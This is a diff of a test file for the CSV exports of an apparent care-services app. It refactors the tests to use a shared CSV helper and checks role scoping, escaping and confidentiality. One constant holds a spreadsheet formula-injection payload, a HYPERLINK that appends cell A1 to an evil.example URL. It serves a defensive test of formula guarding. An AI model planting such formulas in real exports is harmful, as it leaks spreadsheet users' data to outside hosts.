@@ -1,40 +1,11 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createTestDatabase, testDialects, type TestDatabase } from '../support/databases.js';
 import { buildWorld, PASSWORD, type World } from '../support/world.js';
-import { signedIn, testApp, type Client, type Response } from '../support/http.js';
+import { signedIn, testApp, type Client } from '../support/http.js';
+import { csvRecords } from '../support/csv.js';
 import type { App } from '../../src/server/http/app.js';
 import { nowIso } from '../../src/db/connection.js';
 import * as people from '../../src/server/services/people.service.js';
-
-/** A small RFC 4180 reader: quoted cells may hold commas, doubled quotes and line breaks. */
-function parseCsv(text: string): string[][] {
-  const rows: string[][] = [];
-  let row: string[] = [];
-  let cell = '';
-  let quoted = false;
-  for (let i = 0; i < text.length; i++) {
-    const ch = text[i]!;
-    if (quoted) {
-      if (ch === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (ch === '"') quoted = false;
-      else cell += ch;
-    } else if (ch === '"') quoted = true;
-    else if (ch === ',') { row.push(cell); cell = ''; } else if (ch === '\r' && text[i + 1] === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; i++; } else cell += ch;
-  }
-  if (cell !== '' || row.length) { row.push(cell); rows.push(row); }
-  return rows;
-}
-
-/** The export as records keyed by header, after checking it is a CSV download named for the list. */
-function records(response: Response, name: string): { header: string[]; rows: Record<string, string>[] } {
-  expect(response.status, String(response.body)).toBe(200);
-  expect(String(response.headers['content-type'])).toContain('text/csv');
-  expect(String(response.headers['content-disposition'])).toMatch(new RegExp(`^attachment; filename="${name}-\\d{4}-\\d{2}-\\d{2}\\.csv"$`));
-  expect(response.headers['cache-control']).toBe('no-store');
-  // UTF-8 with a byte-order mark, so a spreadsheet shows "–" and "’" as they are.
-  expect(String(response.body).startsWith('\uFEFF')).toBe(true);
-  const [header, ...body] = parseCsv(String(response.body).slice(1));
-  return { header: header!, rows: body.map((cells) => Object.fromEntries(header!.map((h, i) => [h, cells[i] ?? '']))) };
-}
 
 const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Open")';
 
@@ -76,7 +47,7 @@ describe.each(testDialects())('CSV export of every list on %s', (dialect) => {
     it('exports the people in the filtered service, with ISO dates, a guarded formula, and an audit entry like the list', async () => {
       const before = Number((await database.db.selectFrom('audit_log').select((eb) => eb.fn.countAll().as('n'))
         .where('entity_kind', '=', 'person').where('action', '=', 'list').executeTakeFirstOrThrow()).n);
-      const { header, rows } = records(await admin.get(`/api/v1/people?serviceId=${world.services.birch.id}&format=csv`), 'people');
+      const { header, rows } = csvRecords(await admin.get(`/api/v1/people?serviceId=${world.services.birch.id}&format=csv`), 'people');
       expect(header).toEqual(['id', 'ref', 'display_name', 'service', 'learning_disability', 'autism', 'legal_status', 'start_date', 'end_date']);
       expect(rows.map((r) => r.ref).sort()).toEqual(['P-AMIRA', 'P-FORMULA']);
       expect(rows.every((r) => r.service === 'Birch House')).toBe(true);
@@ -93,8 +64,8 @@ describe.each(testDialects())('CSV export of every list on %s', (dialect) => {
     });
 
     it('searching by name exports only the match; a manager’s export stays inside their services', async () => {
-      expect(records(await admin.get('/api/v1/people?q=Ben&format=csv'), 'people').rows.map((r) => r.ref)).toEqual(['P-BEN']);
-      const managers = records(await manager.get('/api/v1/people?format=csv'), 'people').rows.map((r) => r.ref).sort();
+      expect(csvRecords(await admin.get('/api/v1/people?q=Ben&format=csv'), 'people').rows.map((r) => r.ref)).toEqual(['P-BEN']);
+      const managers = csvRecords(await manager.get('/api/v1/people?format=csv'), 'people').rows.map((r) => r.ref).sort();
       expect(managers).toEqual(['P-AMIRA', 'P-FORMULA']);
     });
 
@@ -114,7 +85,7 @@ describe.each(testDialects())('CSV export of every list on %s', (dialect) => {
         legal_status: 'informal', start_date: '2020-01-01', end_date: null, created_at: now, updated_at: now,
       }));
       await database.db.insertInto('people').values(many).execute();
-      const { rows } = records(await admin.get(`/api/v1/people?serviceId=${world.services.rowan.id}&format=csv&limit=5`), 'people');
+      const { rows } = csvRecords(await admin.get(`/api/v1/people?serviceId=${world.services.rowan.id}&format=csv&limit=5`), 'people');
       expect(rows).toHaveLength(621);
       expect(new Set(rows.map((r) => r.id)).size).toBe(621);
       await database.db.deleteFrom('people').where('ref', 'like', 'P-BULK-%').execute();
@@ -123,12 +94,12 @@ describe.each(testDialects())('CSV export of every list on %s', (dialect) => {
 
   describe('staff', () => {
     it('exports staff with their services; the search filter and the worker’s scope both apply', async () => {
-      const { header, rows } = records(await admin.get('/api/v1/staff?format=csv'), 'staff');
+      const { header, rows } = csvRecords(await admin.get('/api/v1/staff?format=csv'), 'staff');
       expect(header).toEqual(['id', 'ref', 'name', 'job_title', 'employment_type', 'active', 'services']);
       expect(rows.map((r) => r.name).sort()).toEqual(['Chloe Evans', 'Dev Patel']);
       expect(rows.find((r) => r.name === 'Dev Patel')).toMatchObject({ employment_type: 'agency', services: 'Rowan Court', active: 'true' });
-      expect(records(await admin.get('/api/v1/staff?q=Dev&format=csv'), 'staff').rows.map((r) => r.ref)).toEqual(['S-DEV']);
-      expect(records(await worker.get('/api/v1/staff?format=csv'), 'staff').rows.map((r) => r.ref)).toEqual(['S-CHLOE']);
+      expect(csvRecords(await admin.get('/api/v1/staff?q=Dev&format=csv'), 'staff').rows.map((r) => r.ref)).toEqual(['S-DEV']);
+      expect(csvRecords(await worker.get('/api/v1/staff?format=csv'), 'staff').rows.map((r) => r.ref)).toEqual(['S-CHLOE']);
     });
 
     it('is refused to roles that cannot read staff', async () => {
@@ -139,14 +110,14 @@ describe.each(testDialects())('CSV export of every list on %s', (dialect) => {
 
   describe('services', () => {
     it('exports services in scope, filtered by region; board members get the summary fields only', async () => {
-      const { header, rows } = records(await admin.get(`/api/v1/services?regionId=${world.regions.south.id}&format=csv`), 'services');
+      const { header, rows } = csvRecords(await admin.get(`/api/v1/services?regionId=${world.regions.south.id}&format=csv`), 'services');
       expect(header).toEqual(['id', 'ref', 'name', 'type', 'region', 'capacity', 'registration_number', 'commissioners']);
       expect(rows).toEqual([{
         id: String(world.services.rowan.id), ref: 'ROWAN', name: 'Rowan Court', type: 'residential_care_home', region: 'South', capacity: '10',
         registration_number: '1-202', commissioners: 'Kent County Council',
       }]);
-      expect(records(await manager.get('/api/v1/services?format=csv'), 'services').rows.map((r) => r.name)).toEqual(['Birch House']);
-      const summary = records(await board.get('/api/v1/services?format=csv'), 'services').rows;
+      expect(csvRecords(await manager.get('/api/v1/services?format=csv'), 'services').rows.map((r) => r.name)).toEqual(['Birch House']);
+      const summary = csvRecords(await board.get('/api/v1/services?format=csv'), 'services').rows;
       expect(summary.map((r) => r.name).sort()).toEqual(['Birch House', 'Rowan Court']);
       expect(summary.every((r) => r.ref === '' && r.registration_number === '' && r.commissioners === '')).toBe(true);
     });
@@ -154,16 +125,16 @@ describe.each(testDialects())('CSV export of every list on %s', (dialect) => {
 
   describe('users and the audit trail (admin only)', () => {
     it('exports user accounts filtered by role', async () => {
-      const { header, rows } = records(await admin.get('/api/v1/users?role=service_manager&format=csv'), 'users');
+      const { header, rows } = csvRecords(await admin.get('/api/v1/users?role=service_manager&format=csv'), 'users');
       expect(header).toEqual(['id', 'name', 'email', 'role', 'all_services', 'services', 'disabled', 'last_sign_in_at']);
       expect(rows).toHaveLength(1);
       expect(rows[0]).toMatchObject({ email: 'service-manager@test.lantern', role: 'service_manager', all_services: 'false', services: 'Birch House', disabled: 'false' });
       expect(rows[0]!.last_sign_in_at).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}/); // UK time, as on screen
-      expect(records(await admin.get('/api/v1/users?format=csv'), 'users').rows.length).toBeGreaterThanOrEqual(8);
+      expect(csvRecords(await admin.get('/api/v1/users?format=csv'), 'users').rows.length).toBeGreaterThanOrEqual(8);
     });
 
     it('exports the audit trail with its filters', async () => {
-      const { header, rows } = records(await admin.get('/api/v1/audit?entityKind=person&action=list&format=csv'), 'audit-trail');
+      const { header, rows } = csvRecords(await admin.get('/api/v1/audit?entityKind=person&action=list&format=csv'), 'audit-trail');
       expect(header).toEqual(['id', 'at', 'actor', 'action', 'entity_kind', 'entity_id', 'ip', 'summary']);
       expect(rows.length).toBeGreaterThanOrEqual(3);
       expect(rows.every((r) => r.entity_kind === 'person' && r.action === 'list')).toBe(true);
@@ -188,15 +159,15 @@ describe.each(testDialects())('CSV export of every list on %s', (dialect) => {
       const answered = await manager.post(`/api/v1/restriction-challenges/${atBirch.body.id}/outcome`, { outcome: 'not_a_restriction', response: 'Discussed at the team meeting.' });
       expect(answered.status).toBe(200);
 
-      const queue = records(await manager.get('/api/v1/restriction-challenges?format=csv'), 'restriction-challenges');
+      const queue = csvRecords(await manager.get('/api/v1/restriction-challenges?format=csv'), 'restriction-challenges');
       expect(queue.header).toEqual(['id', 'kind', 'raised_at', 'service', 'restriction', 'text', 'raised_by', 'status', 'outcome', 'response', 'responded_by', 'responded_at']);
       expect(queue.rows.map((r) => r.id)).toEqual([String(atBirch.body.id)]);
       expect(queue.rows[0]).toMatchObject({ text: "'+The kitchen is always locked after 8", status: 'closed', response: 'Discussed at the team meeting.', service: 'Birch House' });
 
-      const open = records(await lead.get('/api/v1/restriction-challenges?status=open&format=csv'), 'restriction-challenges');
+      const open = csvRecords(await lead.get('/api/v1/restriction-challenges?status=open&format=csv'), 'restriction-challenges');
       expect(open.rows.map((r) => r.id)).toEqual([String(atRowan.body.id)]);
 
-      const mine = records(await worker.get('/api/v1/restriction-challenges?mine=true&format=csv'), 'restriction-challenges');
+      const mine = csvRecords(await worker.get('/api/v1/restriction-challenges?mine=true&format=csv'), 'restriction-challenges');
       expect(mine.rows.map((r) => r.id)).toEqual([String(atBirch.body.id)]);
       expect((await worker.get('/api/v1/restriction-challenges?format=csv')).status).toBe(403);
       expect((await manager.get(`/api/v1/restriction-challenges?serviceId=${world.services.rowan.id}&format=csv`)).body).not.toContain('Garden door');
@@ -214,7 +185,7 @@ describe.each(testDialects())('CSV export of every list on %s', (dialect) => {
       expect((await manager.post('/api/v1/reviews', review(world.people.amira.id, world.services.birch.id, '2026-10-02'))).status).toBe(201);
       expect((await lead.post('/api/v1/reviews', review(world.people.ben.id, world.services.rowan.id, '2026-10-05'))).status).toBe(201);
 
-      const amiras = records(await lead.get(`/api/v1/reviews?personId=${world.people.amira.id}&format=csv`), 'practice-reviews');
+      const amiras = csvRecords(await lead.get(`/api/v1/reviews?personId=${world.people.amira.id}&format=csv`), 'practice-reviews');
       expect(amiras.header).toContain('what_could_be_different');
       expect(amiras.rows).toHaveLength(1);
       expect(amiras.rows[0]).toMatchObject({
@@ -222,8 +193,8 @@ describe.each(testDialects())('CSV export of every list on %s', (dialect) => {
         advocate_took_part: 'Y', what_could_be_different: "'@SUM(1,2) more choice at tea time", contributory_factors: 'physical_environment',
         recommendations: 'Offer a choice of drinks; Review again in three months',
       });
-      expect(records(await lead.get('/api/v1/reviews?format=csv'), 'practice-reviews').rows).toHaveLength(2);
-      expect(records(await manager.get('/api/v1/reviews?format=csv'), 'practice-reviews').rows.map((r) => r.person)).toEqual(['Amira K.']);
+      expect(csvRecords(await lead.get('/api/v1/reviews?format=csv'), 'practice-reviews').rows).toHaveLength(2);
+      expect(csvRecords(await manager.get('/api/v1/reviews?format=csv'), 'practice-reviews').rows.map((r) => r.person)).toEqual(['Amira K.']);
       expect((await guardian.get('/api/v1/reviews?format=csv')).status).toBe(403);
       expect((await commissioner.get('/api/v1/reviews?format=csv')).status).toBe(403);
     });
@@ -237,7 +208,7 @@ describe.each(testDialects())('CSV export of every list on %s', (dialect) => {
       for (const r of [named, confidential, anonymous]) expect(r.status).toBe(201);
 
       const all = await guardian.get('/api/v1/speak-up?format=csv');
-      const { header, rows } = records(all, 'speak-up');
+      const { header, rows } = csvRecords(all, 'speak-up');
       expect(header).toEqual(['id', 'received_on', 'mode', 'status', 'service', 'categories', 'themes', 'has_outcome', 'messages']);
       expect(rows.map((r) => r.mode).sort()).toEqual(['anonymous', 'confidential', 'named']);
       expect(rows.every((r) => /^\d{4}-\d{2}-\d{2}$/.test(r.received_on!))).toBe(true);
@@ -245,7 +216,7 @@ describe.each(testDialects())('CSV export of every list on %s', (dialect) => {
       const text = String(all.body);
       for (const secret of ['Test support_worker', 'support-worker@test.lantern', 'Night staff sleep', 'petty cash', 'shouted']) expect(text).not.toContain(secret);
 
-      const anon = records(await guardian.get('/api/v1/speak-up?mode=anonymous&format=csv'), 'speak-up').rows;
+      const anon = csvRecords(await guardian.get('/api/v1/speak-up?mode=anonymous&format=csv'), 'speak-up').rows;
       expect(anon).toHaveLength(1);
       expect(anon[0]).toMatchObject({ id: String(anonymous.body.id), service: 'Rowan Court', mode: 'anonymous' });
     });
